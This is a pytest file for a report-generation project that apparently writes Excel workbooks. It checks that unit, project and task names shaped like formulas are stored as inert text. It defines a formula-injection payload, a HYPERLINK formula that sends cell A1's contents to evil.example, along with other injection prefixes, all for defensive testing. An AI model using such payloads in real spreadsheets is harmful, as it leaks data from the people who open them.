"""Every workbook duban writes keeps text as text: a unit named like a formula is never a formula.

A unit, project or task name comes from a list someone filled in. Written with a library's
defaults, `=HYPERLINK(...)` would be a live link in the report officials open; here each writer
(the reports, the ledger export, the blank templates) is fed such a name and the file is read back.
"""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook

from duban.notifiers.reports.model import (
    CategoryTotal,
    Count,
    IndicatorRow,
    LedgerRow,
    ListItem,
    ProjectRow,
    Report,
    TaskRow,
    UnitRank,
)
from duban.notifiers.reports.xlsx import write_xlsx

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
OTHERS = ("+1+1", "-2+3", "@SUM(A1:A2)", "http://evil.example/")


def _text_cells(path: Path) -> dict[str, list[tuple[str, object, str]]]:
    """Every non-empty cell as (coordinate, value, data type), per sheet."""
    book = load_workbook(path)
    found = {}
    for sheet in book.worksheets:
        found[sheet.title] = [(c.coordinate, c.value, c.data_type) for row in sheet.iter_rows() for c in row
                              if c.value is not None]
    return found


def _assert_inert(path: Path, expected: int) -> None:
    cells = _text_cells(path)
    formulas = [(sheet, c) for sheet, row in cells.items() for c in row if c[2] == "f"]
    assert formulas == [], "no cell of the workbook is a formula"
    evil = [(sheet, c) for sheet, row in cells.items() for c in row if c[1] == EVIL]
    assert len(evil) >= expected, evil
    assert all(c[2] == "s" for _, c in evil), "read back as a plain string"
    book = load_workbook(path)
    assert not any(sheet._hyperlinks for sheet in book.worksheets), "no cell became a link"


def _report() -> Report:
    at = dt.datetime(2023, 7, 20, 1, 0, tzinfo=dt.UTC)
    report = Report(kind="quarterly", period="2023-Q2", period_label="2023年第二季度", title="2023年第二季度通报",
                    kind_name="季度通报", programme_name=EVIL, document="温鹿政办〔2023〕55号", signer="专班",
                    cutoff=at, since=at - dt.timedelta(days=90), time_progress=50.0, progress_label="2023年1—6月")
    report.indicators = [IndicatorRow(index="1", code="x", name=EVIL, unit_name=EVIL, sub=False, measure="%",
                                      basis="年度目标", target=10.0, value=4.0, value_label="2023年1—6月",
                                      completion=40.0, time_progress=50.0, gap=-10.0, level="red", units=EVIL,
                                      note=OTHERS[0], rule="r")]
    report.indicator_count = Count(red=1)
    report.projects = [ProjectRow(index="1", code="p", name=EVIL, category="战略支撑型", grade="省级",
                                  total_investment=10.0, planned=2.0, done=1.0, expected=1.0, completion=50.0,
                                  time_progress=50.0, level="green", units=OTHERS[1])]
    report.categories = [CategoryTotal("战略支撑型", 1, 10.0, 2.0, 1.0, 1.0, 0, 0, 1)]
    report.tasks = [TaskRow(index="1", code="t", title=EVIL, goal=OTHERS[2], deadline=dt.date(2023, 6, 30),
                            deadline_text="6月底", units=EVIL, status="overdue", status_label="逾期20天", level="yellow",
                            done_on=None)]
    report.ranking = [UnitRank(rank=1, code="u", name=EVIL, items=1, completion=40.0, time_progress=50.0, gap=-10.0,
                               red=1, yellow=0, green=0, tasks_overdue=1, praised=0, level="red")]
    report.urging = [ListItem(index=1, level="red", title=EVIL, subject_name=EVIL, units=EVIL, figures=OTHERS[3],
                              action=EVIL, source="", rule="r")]
    report.opened = [LedgerRow(index=1, title=EVIL, units=EVIL, level="red", first_seen=at, status="opened",
                               status_label="督办中", closed_at=None, notices=1, days_open=3)]
    return report


def test_a_report_workbook_writes_a_unit_named_like_a_formula_as_plain_text(tmp_path: Path) -> None:
    path = write_xlsx(_report(), tmp_path / "quarterly.xlsx")
    _assert_inert(path, expected=12)
    values = {c[1] for row in _text_cells(path).values() for c in row}
    assert set(OTHERS) <= values, "values starting with +, -, @ and links are kept as typed"


def test_the_ledger_export_writes_a_unit_named_like_a_formula_as_plain_text(tmp_path: Path) -> None:
    from duban.cli.alerts import LedgerRow as NoticeRow
    from duban.cli.alerts import write_ledger_xlsx

    at = dt.datetime(2023, 7, 17, 1, 0, tzinfo=dt.UTC)
    row = NoticeRow(id=1, created_at=at, round_key="monthly:2023-07-17", rule="lucheng.share_floor", subject="x",
                    subject_name=EVIL, period="2023-06", kind="warning", level="red", recipient_unit="fgj",
                    recipient_name=EVIL, title=EVIL, figures=OTHERS[1], delivery="已发送", addresses=(OTHERS[2],),
                    sent_at=at, alert_id=3)
    path = tmp_path / "台账.xlsx"
    write_ledger_xlsx([row], path)
    _assert_inert(path, expected=3)


def test_the_blank_templates_write_their_text_as_plain_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from dataclasses import replace

    import duban.store.templates_xlsx as templates
    from duban.store.importing.lists import LISTS

    units = next(spec for spec in LISTS if spec.name == "units")
    hostile = replace(units, description=EVIL, columns=tuple(replace(c, hint=EVIL) for c in units.columns))
    monkeypatch.setattr(templates, "LISTS", (hostile,))
    [path] = templates.write_templates(tmp_path)
    _assert_inert(path, expected=len(units.columns))


def test_every_module_that_writes_a_workbook_goes_through_the_shared_helper() -> None:
    root = Path(__file__).resolve().parents[1]
    writers = []
    for folder in ("duban", "engine", "store", "notifiers"):
        for path in (root / folder).rglob("*.py"):
            if path.is_symlink() or any(p.is_symlink() for p in path.relative_to(root).parents if p != Path(".")):
                continue
            text = path.read_text(encoding="utf-8")
            if "Workbook(" in text and "xlsx_text" not in path.name:
                writers.append((path.relative_to(root).as_posix(), "duban.store.xlsx_text" in text))
    assert len(writers) >= 3, writers
    assert all(uses for _, uses in writers), f"writes a workbook without duban.store.xlsx_text: {writers}"
